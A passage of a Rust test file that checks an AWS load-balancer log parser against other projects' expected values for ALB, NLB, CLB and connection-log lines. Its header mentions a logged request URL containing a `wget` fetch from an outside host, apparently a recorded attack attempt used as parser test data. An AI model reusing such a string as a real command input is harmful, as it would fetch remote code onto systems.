//! Conformance with other projects' test suites: every Elastic Load Balancing log line in
//! `../shared/corpus` (read from there at run time, never copied into this repository), checked
//! against the values those projects assert where our schema has the field (each folder's
//! SOURCE.md; elastic/integrations' `-expected.json` and OTel's CLB `_expected.yaml` are read
//! and compared field by field, the others' assertions are restated here from SOURCE.md).
//!
//! Every file keeps `rows + rejected + blank_lines == lines`; every line a peer parses is a row
//! here, every line a peer refuses is rejected here, with one exception (OTel's `invalid` type,
//! below).
//!
//! # Where we agree
//!
//! * Values: every ALB, NLB, CLB and connection-log value the peers assert (addresses and
//!   ports, times to the microsecond, processing times, status codes, byte counts, the request
//!   split into method, URL (spaces kept, elastic's `wget+ a.tigoinari.tk` line) and version,
//!   trace ids, SNI, certificates including `session-reused`, rule priority `-1`, actions,
//!   redirect URL, error reasons including codes newer than AWS's table, lists, classification,
//!   TID, NLB ALPN fields, connection-log TLS fields).
//! * Malformed requests: method and version null for `"- http://host:80- -"` (VRL `nine`,
//!   beats), URL null for `"- - -"` (beats), `"- - - "` on CLB TCP/SSL lines.
//! * IPv6 without brackets split at the last colon (VRL `eleven`/`twelve`); OTel's bracketed
//!   synthetic `[fe80::…]:443` gives the address without brackets, as OTel does.
//! * Older eras read: beats' 25-field ALB and 18-field NLB lines, patterns-core's 12-field CLB
//!   lines; trailing fields (VRL `thirteen` and its example 2 with strict mode off) do not change
//!   the known columns.
//! * Rejected: beats' `"-" "-"1 2018-…` (missing separator; beats half-parses it), OTel's
//!   three-field lines, the unterminated quote, and AWS's `Enable AccessLog for ELB: …` control
//!   line (OTel skips it; here it is rejected when a format is given and not detected as any
//!   format by `ReaderBuilder::auto`).
//!
//! # Where we differ (each named again at its assertion)
//!
//! * `-` and `"-"` are null in every column. Elastic keeps `"-"` as the string for
//!   `target_group.arn` (integrations line 2), the user agent (integrations line 10) and the
//!   connection log's subject (line 9); beats does the same for target group, trace id and user
//!   agent.
//! * `-1` processing times stay `-1.0` (VRL, dpetzold and patterns-core legacy agree); elastic,
//!   beats and patterns-core ECS mode drop them.
//! * Values are stored as logged: status codes and rule priorities are integers (VRL and elastic
//!   keep some as strings), lists and actions are one string each (VRL, elastic and dpetzold
//!   split them), `HTTP/1.1` is kept whole (elastic, OTel: "1.1"), TLS versions keep their case
//!   (OTel lower-cases `TLSv1.2`), beats' lower-cased method is `GET` here, and the connection
//!   log's validity and verify status are not split (elastic splits `NotBefore=…;NotAfter=…` and
//!   `Failed:<code>`).
//! * NLB's ALPN list is one value with its quotes: `"h2","http/1.1"`. OTel's quote-aware
//!   scanner mis-splits it (`h2`, and `,"http/1.1"` as the creation time); elastic strips the
//!   outer quotes (`h2","http/1.1`) and, on a bug-report line with backslashes, `\"`.
//! * Elastic keeps no URL, request time or type for its malformed-request line 10; here the URL
//!   `http://…:80-/`, the request creation time and the type are read like any other line's.
//!   Elastic and dpetzold drop the TID and later fields; VRL, OTel and we keep the TID.
//! * OTel refuses an ALB line whose type is `invalid`; here the type is an open set (spec
//!   §4.10 item 12, AWS: "ignore any other values"): the line is a row, and is detected as ALB.
//! * Peers that cannot read some lines at all: OTel needs ≥ 29 ALB, ≥ 22 NLB, ≥ 15 CLB fields
//!   and bracketed IPv6; VRL reads ALB only and, in strict mode, no trailing fields; dpetzold
//!   drops every field after `error_reason`. Those lines are rows here.
//!
//! Outside the project's checkouts the corpus is absent: the tests say so and pass, unless
//! `AWS_ACCESS_LOGS_REQUIRE_CORPUS=1` (set by `.ci/run`) makes that a failure.
//! `AWS_ACCESS_LOGS_CORPUS` overrides the location.

mod common;

use std::path::{Path, PathBuf};

use arrow::array::{Array, AsArray, RecordBatch};
use arrow::datatypes::{
    DataType, Float64Type, Int16Type, Int32Type, Int64Type, TimeUnit, TimestampMicrosecondType,
};
use aws_access_logs::{DecodeStats, ErrorKind, Format, ReaderBuilder, Reject};
use common::iso_us;
use serde_json::{Map, Value, json};

type Row = Map<String, Value>;

fn corpus_dir() -> Option<PathBuf> {
    common::corpus_dir("ELB")
}

// ---------------------------------------------------------------------------------------------
// Rows as JSON (common::rows_as_json knows millisecond timestamps only).

/// A cell as JSON: text, integers and floats as such, times as [`iso_us`] text, null as null.
fn value_at(column: &dyn Array, row: usize) -> Value {
    if column.is_null(row) {
        return Value::Null;
    }
    match column.data_type() {
        DataType::Utf8 => json!(column.as_string::<i32>().value(row)),
        DataType::Int16 => json!(column.as_primitive::<Int16Type>().value(row)),
        DataType::Int32 => json!(column.as_primitive::<Int32Type>().value(row)),
        DataType::Int64 => json!(column.as_primitive::<Int64Type>().value(row)),
        DataType::Float64 => json!(column.as_primitive::<Float64Type>().value(row)),
        DataType::Timestamp(TimeUnit::Microsecond, _) => {
            json!(iso_us(
                column.as_primitive::<TimestampMicrosecondType>().value(row)
            ))
        }
        other => panic!("unexpected type {other}"),
    }
}

fn rows_of(batches: &[RecordBatch]) -> Vec<Row> {
    let mut out = Vec::new();
    for batch in batches {
        let schema = batch.schema();
        for row in 0..batch.num_rows() {
            let mut map = Map::new();
            for (field, column) in schema.fields().iter().zip(batch.columns()) {
                map.insert(field.name().clone(), value_at(column.as_ref(), row));
            }
            out.push(map);
        }
    }
    out
}

struct Parsed {
    rows: Vec<Row>,
    rejects: Vec<Reject>,
    stats: DecodeStats,
}

fn parse_bytes(bytes: &[u8], format: Format, what: &str) -> Parsed {
    let mut reader = ReaderBuilder::new(format).build(bytes).unwrap();
    let batches: Vec<_> = reader.by_ref().collect::<Result<_, _>>().unwrap();
    let parsed = Parsed {
        rows: rows_of(&batches),
        rejects: reader.take_rejects(),
        stats: reader.stats(),
    };
    let s = parsed.stats;
    assert_eq!(s.rows + s.rejected + s.skipped(), s.lines, "{what}: {s:?}");
    parsed
}

fn read_file(dir: &Path, file: &str) -> Vec<u8> {
    let path = dir.join(file);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// Parses a file all of whose data lines the peer expects to parse; returns the rows.
fn parse_valid(dir: &Path, file: &str, format: Format, rows: usize) -> Vec<Row> {
    let bytes = read_file(dir, file);
    let parsed = parse_bytes(&bytes, format, file);
    let reasons: Vec<String> = parsed
        .rejects
        .iter()
        .map(|r| r.error().to_string())
        .collect();
    assert!(reasons.is_empty(), "{file}: {reasons:#?}");
    assert_eq!(parsed.rows.len(), rows, "{file}");
    let blank = bytes
        .split(|&b| b == b'\n')
        .filter(|l| l.is_empty())
        .count() as u64
        - u64::from(bytes.last() == Some(&b'\n'));
    assert_eq!(parsed.stats.blank_lines, blank, "{file}");
    parsed.rows
}

/// Asserts the listed columns of `row`.
fn check(row: &Row, expected: &Value, context: &str) {
    for (column, want) in expected.as_object().unwrap() {
        assert!(row.contains_key(column), "{context}: no column {column}");
        assert_eq!(&row[column], want, "{context}: column {column}");
    }
}

/// Asserts `columns` of each row against one array of values per row, then `same` of all.
fn check_table(rows: &[Row], columns: &[&str], table: &[Value], same: &Value, file: &str) {
    assert_eq!(rows.len(), table.len(), "{file}");
    for (i, (row, values)) in rows.iter().zip(table).enumerate() {
        let values = values.as_array().unwrap();
        assert_eq!(values.len(), columns.len(), "{file} row {i}: table width");
        for (column, want) in columns.iter().zip(values) {
            assert!(row.contains_key(*column), "{file}: no column {column}");
            assert_eq!(&row[*column], want, "{file} row {}: column {column}", i + 1);
        }
        check(row, same, &format!("{file} row {}", i + 1));
    }
}

fn corpus_lines(bytes: &[u8]) -> Vec<&[u8]> {
    bytes
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .collect()
}

// ---------------------------------------------------------------------------------------------
// elastic/integrations: test-alb.log and its -expected.json, compared field by field.

/// `a.b.c` in a JSON object.
fn path<'a>(v: &'a Value, p: &str) -> Option<&'a Value> {
    p.split('.').try_fold(v, |v, k| v.get(k))
}

/// How a peer's value maps to ours.
#[derive(Clone, Copy)]
enum Conv {
    Same,
    /// A string holding an integer ("80").
    IntFromString,
    /// A float holding an integer (NLB milliseconds: 5.0).
    IntFromFloat,
    /// An ISO time at millisecond precision: ours truncated to milliseconds.
    Millis,
    /// "1.1" → "HTTP/1.1".
    HttpVersion,
    /// An array of strings joined by `sep`.
    Join(&'static str),
    /// Elastic keeps some `-` values as the string "-": null here.
    DashIsNull,
    /// Absent when the value was `-1` (elastic drops it): `-1.0` here.
    DropsMinusOne,
    /// Elastic strips the outer quotes of the ALPN list (`h2","http/1.1`).
    Requote,
}

/// Our value, `ours`, against the peer's, `theirs` (absent: null here unless `conv` says).
fn agree(conv: Conv, theirs: Option<&Value>, ours: &Value) -> bool {
    let Some(theirs) = theirs else {
        return match conv {
            Conv::DropsMinusOne => *ours == json!(-1.0) || ours.is_null(),
            _ => ours.is_null(),
        };
    };
    let want = match conv {
        Conv::Same | Conv::DropsMinusOne => theirs.clone(),
        Conv::IntFromString => json!(theirs.as_str().unwrap().parse::<i64>().unwrap()),
        Conv::IntFromFloat => json!(theirs.as_f64().unwrap() as i64),
        Conv::Millis => {
            // "2018-07-02T22:23:00.186641Z" → "2018-07-02T22:23:00.186Z"
            let ours = ours.as_str().unwrap_or_default();
            return ours.len() == 27 && format!("{}Z", &ours[..23]) == *theirs;
        }
        Conv::HttpVersion => json!(format!("HTTP/{}", theirs.as_str().unwrap())),
        Conv::Join(sep) => {
            let parts: Vec<&str> = theirs
                .as_array()
                .unwrap()
                .iter()
                .map(|v| v.as_str().unwrap())
                .collect();
            json!(parts.join(sep))
        }
        Conv::DashIsNull if theirs.as_str() == Some("-") => Value::Null,
        Conv::DashIsNull => theirs.clone(),
        Conv::Requote => json!(format!("\"{}\"", theirs.as_str().unwrap())),
    };
    *ours == want
}

const ELASTIC_ALB: &[(&str, &str, Conv)] = &[
    ("@timestamp", "time", Conv::Millis),
    ("aws.elb.type", "type", Conv::Same),
    ("aws.elb.name", "elb", Conv::Same),
    ("source.ip", "client_ip", Conv::Same),
    ("source.port", "client_port", Conv::Same),
    ("aws.elb.backend.ip", "target_ip", Conv::Same),
    ("aws.elb.backend.port", "target_port", Conv::IntFromString),
    (
        "aws.elb.backend.http.response.status_code",
        "target_status_code",
        Conv::Same,
    ),
    (
        "aws.elb.request_processing_time.sec",
        "request_processing_time",
        Conv::DropsMinusOne,
    ),
    (
        "aws.elb.backend_processing_time.sec",
        "target_processing_time",
        Conv::DropsMinusOne,
    ),
    (
        "aws.elb.response_processing_time.sec",
        "response_processing_time",
        Conv::DropsMinusOne,
    ),
    ("http.response.status_code", "elb_status_code", Conv::Same),
    ("http.request.body.bytes", "received_bytes", Conv::Same),
    ("http.response.body.bytes", "sent_bytes", Conv::Same),
    ("http.request.method", "request_method", Conv::Same),
    ("http.version", "request_http_version", Conv::HttpVersion),
    ("url.original", "request_url", Conv::Same),
    ("user_agent.original", "user_agent", Conv::DashIsNull),
    (
        "aws.elb.target_group.arn",
        "target_group_arn",
        Conv::DashIsNull,
    ),
    ("aws.elb.trace_id", "trace_id", Conv::Same),
    (
        "aws.elb.matched_rule_priority",
        "matched_rule_priority",
        Conv::IntFromString,
    ),
    ("event.start", "request_creation_time", Conv::Same),
    (
        "aws.elb.action_executed",
        "actions_executed",
        Conv::Join(","),
    ),
    ("aws.elb.redirect_url", "redirect_url", Conv::Same),
    ("aws.elb.target_port", "target_port_list", Conv::Join(" ")),
    (
        "aws.elb.target_status_code",
        "target_status_code_list",
        Conv::Join(" "),
    ),
    ("aws.elb.classification", "classification", Conv::Same),
    (
        "aws.elb.classification_reason",
        "classification_reason",
        Conv::Same,
    ),
];

const ELASTIC_NLB: &[(&str, &str, Conv)] = &[
    ("@timestamp", "time", Conv::Millis),
    ("aws.elb.type", "type", Conv::Same),
    ("aws.elb.name", "elb", Conv::Same),
    ("aws.elb.listener", "listener", Conv::Same),
    ("source.ip", "client_ip", Conv::Same),
    ("source.port", "client_port", Conv::Same),
    ("aws.elb.backend.ip", "destination_ip", Conv::Same),
    (
        "aws.elb.backend.port",
        "destination_port",
        Conv::IntFromString,
    ),
    (
        "aws.elb.connection_time.ms",
        "connection_time",
        Conv::IntFromFloat,
    ),
    (
        "aws.elb.tls_handshake_time.ms",
        "tls_handshake_time",
        Conv::IntFromFloat,
    ),
    ("source.bytes", "received_bytes", Conv::Same),
    ("destination.bytes", "sent_bytes", Conv::Same),
    ("aws.elb.chosen_cert.arn", "chosen_cert_arn", Conv::Same),
    ("aws.elb.ssl_cipher", "tls_cipher", Conv::Same),
    ("aws.elb.ssl_protocol", "tls_protocol_version", Conv::Same),
    ("destination.domain", "domain_name", Conv::Same),
    ("aws.elb.alpn_fe_protocol", "alpn_fe_protocol", Conv::Same),
    ("aws.elb.alpn_be_protocol", "alpn_be_protocol", Conv::Same),
    (
        "aws.elb.alpn_client_preference_list",
        "alpn_client_preference_list",
        Conv::Requote,
    ),
    (
        "aws.elb.tls_connection_creation_time",
        "tls_connection_creation_time",
        Conv::Millis,
    ),
];

const ELASTIC_CONN: &[(&str, &str, Conv)] = &[
    ("@timestamp", "time", Conv::Millis),
    ("client.ip", "client_ip", Conv::Same),
    ("client.port", "client_port", Conv::Same),
    ("aws.elb.listener", "listener_port", Conv::IntFromString),
    ("aws.elb.ssl_protocol", "tls_protocol", Conv::Same),
    ("aws.elb.ssl_cipher", "tls_cipher", Conv::Same),
    (
        "aws.elb.tls_handshake_latency",
        "tls_handshake_latency",
        Conv::Same,
    ),
    (
        "aws.elb.leaf_client_cert_subject",
        "leaf_client_cert_subject",
        Conv::DashIsNull,
    ),
    (
        "aws.elb.leaf_client_cert_serial_number",
        "leaf_client_cert_serial_number",
        Conv::Same,
    ),
];

#[test]
fn elastic_integrations_expected_json() {
    let Some(dir) = corpus_dir() else { return };
    let bytes = read_file(&dir, "elastic__integrations/elb_logs/test-alb.log");
    let expected: Value = serde_json::from_slice(&read_file(
        &dir,
        "elastic__integrations/elb_logs/test-alb.log-expected.json",
    ))
    .unwrap();
    let expected = expected["expected"].as_array().unwrap();
    let lines = corpus_lines(&bytes);
    assert_eq!(lines.len(), 10);
    assert_eq!(expected.len(), lines.len());

    // The file mixes three formats (one Elastic data stream for all): each line is detected
    // as its own format and read with it.
    let formats = [
        Format::Alb,
        Format::Alb,
        Format::Nlb,
        Format::Nlb,
        Format::Nlb,
        Format::Nlb,
        Format::AlbConnection,
        Format::AlbConnection,
        Format::AlbConnection,
        Format::Alb,
    ];
    let mut compared = 0;
    for (i, ((line, want), format)) in lines.iter().zip(expected).zip(formats).enumerate() {
        let n = i + 1;
        let ctx = format!("elastic elb_logs line {n}");
        assert_eq!(Format::detect(line).unwrap(), format, "{ctx}");
        let parsed = parse_bytes(line, format, &ctx);
        assert!(parsed.rejects.is_empty(), "{ctx}: {:?}", parsed.rejects);
        let row = &parsed.rows[0];
        let mapping = match format {
            Format::Alb => ELASTIC_ALB,
            Format::Nlb => ELASTIC_NLB,
            _ => ELASTIC_CONN,
        };
        for &(theirs_path, column, conv) in mapping {
            let theirs = path(want, theirs_path);
            let ours = &row[column];
            if agree(conv, theirs, ours) {
                compared += 1;
                continue;
            }
            match (n, column) {
                // Elastic's pipeline gives line 10 (malformed request
                // `"- http://…:80-/ "`) only name, protocol, bytes, status and source: it
                // keeps no type, URL or request time. They are read here like any line's.
                (10, "type") => assert_eq!(ours, &json!("http"), "{ctx}"),
                (10, "request_url") => assert_eq!(
                    ours,
                    &json!("http://internal-service-alb.example.com:80-/"),
                    "{ctx}"
                ),
                (10, "request_creation_time") => {
                    assert_eq!(ours, &json!("2025-05-01T11:24:32.720000Z"), "{ctx}")
                }
                // The bug-report NLB line logs the ALPN list as `\"http/1.1\"` (backslashes
                // included); elastic strips them, the value is kept as logged here.
                (5, "alpn_client_preference_list") => {
                    assert_eq!(theirs, Some(&json!("http/1.1")), "{ctx}");
                    assert_eq!(ours, &json!(r#"\"http/1.1\""#), "{ctx}");
                }
                _ => panic!("{ctx}: {column}: ours {ours}, elastic {theirs:?} ({theirs_path})"),
            }
        }
        match format {
            Format::Alb => {
                // The TID: elastic keeps none.
                let tid = (n == 10).then(|| json!("TID_00000000000000000000000000000000"));
                assert_eq!(row["conn_trace_id"], tid.unwrap_or(Value::Null), "{ctx}");
            }
            Format::Nlb => {
                // The version: elastic does not keep it.
                assert_eq!(row["version"], json!("2.0"), "{ctx}");
            }
            _ => {
                // Elastic splits `NotBefore=…;NotAfter=…` and `Failed:<code>`; kept whole here.
                let elb = &want["aws"]["elb"];
                match (
                    elb.get("leaf_client_cert_not_before"),
                    elb.get("leaf_client_cert_not_after"),
                ) {
                    (Some(before), Some(after)) => {
                        let ms = |v: &Value| v.as_str().unwrap().replace(".000Z", "Z");
                        let validity = format!("NotBefore={};NotAfter={}", ms(before), ms(after));
                        assert_eq!(row["leaf_client_cert_validity"], json!(validity), "{ctx}");
                    }
                    _ => assert!(row["leaf_client_cert_validity"].is_null(), "{ctx}"),
                }
                let status = match (elb.get("tls_verify_status"), elb.get("tls_error_code")) {
                    (Some(s), Some(code)) => json!(format!(
                        "{}:{}",
                        s.as_str().unwrap(),
                        code.as_str().unwrap()
                    )),
                    (Some(s), None) => s.clone(),
                    _ => Value::Null,
                };
                assert_eq!(row["tls_verify_status"], status, "{ctx}");
                // Line 9's TID: elastic keeps none.
                let tid = (n == 9).then(|| json!("TID_16132ed0b4112148"));
                assert_eq!(row["conn_trace_id"], tid.unwrap_or(Value::Null), "{ctx}");
            }
        }
    }
    assert!(compared > 150, "{compared} values compared");

    // The whole file read as what `auto` detects (ALB, its first line): the seven NLB and
    // connection-log lines are rejected, not half-read.
    let mut reader = ReaderBuilder::auto().build(&bytes[..]).unwrap();
    assert_eq!(reader.format(), Format::Alb);
    let rows: usize = reader.by_ref().map(|b| b.unwrap().num_rows()).sum();
    assert_eq!(rows, 3);
    let rejected: Vec<u64> = reader.take_rejects().iter().map(Reject::line).collect();
    assert_eq!(rejected, [3, 4, 5, 6, 7, 8, 9]);
}

// ---------------------------------------------------------------------------------------------
// vectordotdev/vrl parse_aws_alb_log: 13 test lines and 2 examples (ALB only).

#[test]
fn vrl_alb_lines() {
    let Some(dir) = corpus_dir() else { return };
    let tests = parse_valid(
        &dir,
        "vectordotdev__vrl/parse_aws_alb_log.tests.extracted.log",
        Format::Alb,
        13,
    );
    let examples = parse_valid(
        &dir,
        "vectordotdev__vrl/parse_aws_alb_log.examples.extracted.log",
        Format::Alb,
        2,
    );
    let tg = |region: &str| {
        json!(format!(
            "arn:aws:elasticloadbalancing:{region}:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"
        ))
    };
    let tid = json!("TID_dc57cebed65b444ebc8177bb698fe166");
    // VRL keeps `client_host`/`target_host` as `ip:port` strings (split here), status codes
    // and rule priority as strings (integers here), lists as arrays (`[]` for `"-"`; one
    // string or null here) and actions unsplit (as here).
    let columns = [
        "type",
        "client_ip",
        "client_port",
        "target_ip",
        "target_port",
        "request_processing_time",
        "target_processing_time",
        "response_processing_time",
        "elb_status_code",
        "target_status_code",
        "received_bytes",
        "sent_bytes",
        "request_method",
        "request_url",
        "request_http_version",
        "actions_executed",
        "target_port_list",
        "target_status_code_list",
        "conn_trace_id",
    ];
    let awseb = "http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80";
    let search = "https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50";
    #[rustfmt::skip]
    let table = [
        // one … five: the 2018 doc examples, lists unquoted, a TID appended.
        json!(["http", "192.168.131.39", 2817, "10.0.0.1", 80, 0.0, 0.001, 0.0, 200, 200, 34, 366, "GET", "http://www.example.com:80/", "HTTP/1.1", "forward", "10.0.0.1:80", "200", tid]),
        json!(["https", "192.168.131.39", 2817, "10.0.0.1", 80, 0.086, 0.048, 0.037, 200, 200, 0, 57, "GET", "https://www.example.com:443/", "HTTP/1.1", "authenticate,forward", "10.0.0.1:80", "200", tid]),
        json!(["h2", "10.0.1.252", 48160, "10.0.0.66", 9000, 0.0, 0.002, 0.0, 200, 200, 5, 257, "GET", "https://10.0.2.105:773/", "HTTP/2.0", "redirect", "10.0.0.66:9000", "200", tid]),
        json!(["ws", "10.0.0.140", 40914, "10.0.1.192", 8010, 0.001, 0.003, 0.0, 101, 101, 218, 587, "GET", "http://10.0.0.30:80/", "HTTP/1.1", "forward", "10.0.1.192:8010", "101", tid]),
        json!(["wss", "10.0.0.140", 44244, "10.0.0.171", 8010, 0.0, 0.001, 0.0, 101, 101, 218, 786, "GET", "https://10.0.0.30:443/", "HTTP/1.1", "forward", "10.0.0.171:8010", "101", tid]),
        // six, seven: Lambda targets.
        json!(["http", "192.168.131.39", 2817, null, null, 0.0, 0.001, 0.0, 200, 200, 34, 366, "GET", "http://www.example.com:80/", "HTTP/1.1", "forward", null, null, tid]),
        json!(["http", "192.168.131.39", 2817, null, null, 0.0, 0.001, 0.0, 502, null, 34, 366, "GET", "http://www.example.com:80/", "HTTP/1.1", "forward", null, null, tid]),
        // eight: Elastic Beanstalk, WAF.
        json!(["https", "10.209.14.140", 50599, "10.119.5.47", 80, 0.001, 0.052, 0.0, 200, 200, 589, 2084, "POST", search, "HTTP/1.1", "waf,forward", "10.229.5.47:80", "200", tid]),
        // nine: malformed request: method and version null, the URL ends in `-`.
        json!(["http", "113.241.19.90", 15070, null, null, -1.0, -1.0, -1.0, 400, null, 0, 272, null, format!("{awseb}-"), null, null, null, null, tid]),
        // ten.
        json!(["http", "31.211.20.175", 57720, null, null, -1.0, -1.0, -1.0, 400, null, 191, 272, "POST", format!("{awseb}/cgi-bin/login.cgi"), "HTTP/1.1", null, null, null, tid]),
        // eleven, twelve: IPv6 without brackets (twelve has no TID).
        json!(["https", "2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc", 50599, "fd6d:6bbc:c529:6::face:ed83:f46", 80, 0.001, 0.052, 0.0, 200, 200, 589, 2084, "POST", search, "HTTP/1.1", "waf,forward", "fd6d:6bbc:c529:27ff:b::dead:ed84:80", "200", tid]),
        json!(["https", "2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc", 50599, "fd6d:6bbc:c529:6::face:ed83:f46", 80, 0.001, 0.052, 0.0, 200, 200, 589, 2084, "POST", search, "HTTP/1.1", "waf,forward", "fd6d:6bbc:c529:27ff:b::dead:ed84:80", "200", null]),
        // thirteen: `one` plus the three 2025 transform fields.
        json!(["http", "192.168.131.39", 2817, "10.0.0.1", 80, 0.0, 0.001, 0.0, 200, 200, 34, 366, "GET", "http://www.example.com:80/", "HTTP/1.1", "forward", "10.0.0.1:80", "200", tid]),
    ];
    check_table(
        &tests,
        &columns,
        &table,
        &json!({"trailing_fields": null}),
        "vrl tests",
    );
    check(
        &tests[1],
        &json!({"ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256", "ssl_protocol": "TLSv1.2",
                "domain_name": "www.example.com", "matched_rule_priority": 1,
                "target_group_arn": tg("us-east-2"),
                "trace_id": "Root=1-58337281-1d84f3d73c47ec4e58577259",
                "request_creation_time": "2018-07-02T22:22:48.364000Z"}),
        "vrl two",
    );
    check(
        &tests[2],
        &json!({"redirect_url": "https://example.com:80/"}),
        "vrl three",
    );
    check(&tests[3], &json!({"user_agent": null}), "vrl four");
    check(
        &tests[4],
        &json!({"target_group_arn": tg("us-west-2")}),
        "vrl five",
    );
    check(
        &tests[6],
        &json!({"error_reason": "LambdaInvalidResponse"}),
        "vrl seven",
    );
    check(
        &tests[8],
        &json!({"request": format!("- {awseb}- -"), "user_agent": null, "target_group_arn": null,
                "trace_id": null, "matched_rule_priority": null, "actions_executed": null,
                "request_creation_time": "2021-03-17T18:54:13.967000Z"}),
        "vrl nine",
    );
    check(
        &tests[9],
        &json!({"user_agent": "Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0"}),
        "vrl ten",
    );
    // VRL non-strict: `thirteen` asserts the object of `one`; every known column agrees.
    let mut one = tests[0].clone();
    for c in [
        "transformed_host",
        "transformed_uri",
        "request_transform_status",
    ] {
        assert_eq!(tests[12][c], Value::Null, "vrl thirteen {c}");
        one.insert(c.into(), Value::Null);
    }
    assert_eq!(tests[12], one, "vrl thirteen = one");
    // Examples: the Lambda example (29 fields) and the same plus `TID_12345 "-" "-" "-"`.
    check(
        &examples[0],
        &json!({"type": "http", "target_ip": null, "elb_status_code": 200, "target_status_code": 200,
                "target_port_list": null, "conn_trace_id": null, "time": "2018-11-30T22:23:00.186641Z"}),
        "vrl example 1",
    );
    let mut first = examples[0].clone();
    first.insert("conn_trace_id".into(), json!("TID_12345"));
    assert_eq!(examples[1], first, "vrl example 2 = example 1 + TID");
}

// ---------------------------------------------------------------------------------------------
// elastic/beats x-pack/filebeat/module/aws/elb/test: CLB, ALB and NLB lines.

const BEATS: &str = "elastic__beats/x-pack/filebeat/module/aws/elb/test";

#[test]
fn elastic_beats_alb_lines() {
    let Some(dir) = corpus_dir() else { return };
    // 25 fields (SOURCE.md counts 26): through error_reason. Beats keeps the processing times
    // only when not -1, the port as a string, the method lower-cased: compared as logged here.
    let rows = parse_valid(
        &dir,
        &format!("{BEATS}/application-lb-http.log"),
        Format::Alb,
        10,
    );
    let columns = [
        "time",
        "client_port",
        "target_ip",
        "request_processing_time",
        "target_processing_time",
        "response_processing_time",
        "elb_status_code",
        "target_status_code",
        "sent_bytes",
        "request_creation_time",
    ];
    #[rustfmt::skip]
    let table = [
        json!(["2019-10-11T15:01:12.376735Z", 56398, "10.0.0.192", -1.0, -1.0, -1.0, 460, null, 0, "2019-10-11T15:01:06.657000Z"]),
        json!(["2019-10-11T15:01:50.492440Z", 56488, "10.0.1.107", -1.0, -1.0, -1.0, 504, null, 308, "2019-10-11T15:01:40.491000Z"]),
        json!(["2019-10-11T15:01:22.915238Z", 56416, "10.0.0.192", -1.0, -1.0, -1.0, 504, null, 308, "2019-10-11T15:01:12.914000Z"]),
        json!(["2019-10-11T15:01:35.190447Z", 56448, "10.0.1.107", -1.0, -1.0, -1.0, 504, null, 308, "2019-10-11T15:01:25.189000Z"]),
        json!(["2019-10-11T15:02:28.837316Z", 56602, "10.0.0.192", -1.0, -1.0, -1.0, 504, null, 308, "2019-10-11T15:02:18.836000Z"]),
        json!(["2019-10-11T15:02:41.203002Z", 56638, "10.0.1.107", -1.0, -1.0, -1.0, 504, null, 308, "2019-10-11T15:02:31.202000Z"]),
        json!(["2019-10-11T15:03:49.331902Z", 37632, "10.0.0.192", -1.0, -1.0, -1.0, 504, null, 308, "2019-10-11T15:03:39.331000Z"]),
        json!(["2019-10-11T15:55:09.308183Z", 37838, "10.0.0.192", 0.001, 0.0, 0.0, 200, 200, 859, "2019-10-11T15:55:09.307000Z"]),
        json!(["2019-10-11T15:55:11.354283Z", 37850, "10.0.1.107", 0.001, 0.001, 0.0, 200, 200, 859, "2019-10-11T15:55:11.352000Z"]),
        json!(["2019-10-11T15:55:11.987940Z", 37856, "10.0.0.192", 0.0, 0.001, 0.0, 200, 200, 859, "2019-10-11T15:55:11.987000Z"]),
    ];
    let same = json!({
        "type": "http",
        "elb": "app/filebeat-aws-elb-test/c86a326e7dc14222",
        "client_ip": "77.227.156.41",
        "target_port": 80,
        "received_bytes": 125,
        "request_method": "GET",
        "request_url": "http://filebeat-aws-elb-test-12030537.eu-central-1.elb.amazonaws.com:80/",
        "request_http_version": "HTTP/1.1",
        "user_agent": "curl/7.58.0",
        "ssl_cipher": null,
        "ssl_protocol": null,
        "target_group_arn": "arn:aws:elasticloadbalancing:eu-central-1:627959692251:targetgroup/test-lb-instances/8f04c4fe71f5f794",
        "domain_name": null,
        "chosen_cert_arn": null,
        "matched_rule_priority": 0,
        "actions_executed": "forward",
        "redirect_url": null,
        "error_reason": null,
        "target_port_list": null,
        "classification": null,
        "conn_trace_id": null,
        "trailing_fields": null,
    });
    check_table(&rows, &columns, &table, &same, "beats application-lb-http");

    // example-alb-http.log: the 2018 doc examples (25 fields) and two malformed requests.
    let bytes = read_file(&dir, &format!("{BEATS}/example-alb-http.log"));
    let parsed = parse_bytes(&bytes, Format::Alb, "beats example-alb-http");
    // Line 5 (wss) lacks the space in `"-" "-"1 2018-…`: beats' grok keeps the fields up to
    // ssl_protocol and silently drops the rest; it is rejected here.
    assert_eq!(parsed.rejects.len(), 1);
    assert_eq!(parsed.rejects[0].line(), 5);
    assert_eq!(parsed.rejects[0].kind(), ErrorKind::InvalidQuoting);
    assert_eq!(parsed.stats.blank_lines, 1);
    let columns = [
        "type",
        "client_ip",
        "target_ip",
        "target_port",
        "request_processing_time",
        "target_processing_time",
        "response_processing_time",
        "elb_status_code",
        "target_status_code",
        "received_bytes",
        "sent_bytes",
        "request_method",
        "request_url",
        "request_http_version",
        "user_agent",
        "ssl_cipher",
        "trace_id",
        "domain_name",
        "matched_rule_priority",
        "actions_executed",
        "redirect_url",
        "error_reason",
    ];
    let ecdhe = "ECDHE-RSA-AES128-GCM-SHA256";
    #[rustfmt::skip]
    let table = [
        json!(["http", "192.168.131.39", "10.0.0.1", 80, 0.0, 0.001, 0.0, 200, 200, 34, 366, "GET", "http://www.example.com:80/", "HTTP/1.1", "curl/7.46.0", null, "Root=1-58337262-36d228ad5d99923122bbe354", null, 0, "forward", null, null]),
        json!(["https", "192.168.131.39", "10.0.0.1", 80, 0.086, 0.048, 0.037, 200, 200, 0, 57, "GET", "https://www.example.com:443/", "HTTP/1.1", "curl/7.46.0", ecdhe, "Root=1-58337281-1d84f3d73c47ec4e58577259", "www.example.com", 1, "authenticate,forward", null, null]),
        json!(["h2", "10.0.1.252", "10.0.0.66", 9000, 0.0, 0.002, 0.0, 200, 200, 5, 257, "GET", "https://10.0.2.105:773/", "HTTP/2.0", "curl/7.46.0", ecdhe, "Root=1-58337327-72bd00b0343d75b906739c42", null, 1, "redirect", "https://example.com:80/", null]),
        // Beats keeps the user agent `"-"` as the string "-": null here.
